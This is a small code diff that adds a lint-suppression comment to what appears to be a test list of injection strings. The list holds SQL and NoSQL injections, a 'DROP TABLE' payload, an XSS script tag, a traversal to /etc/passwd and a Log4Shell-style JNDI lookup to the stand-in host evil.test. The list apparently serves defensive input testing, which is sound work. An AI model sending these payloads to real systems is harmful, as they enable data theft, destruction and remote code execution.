@@ -25,6 +25,7 @@ const INJECTIONS = [
   "' OR '1'='1",
   "<script>alert(1)</script>",
   "../../etc/passwd",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style payload, literally
   "${jndi:ldap://evil.test/a}",
   '{"$ne":null}',
   "MBR-1; DROP TABLE members",
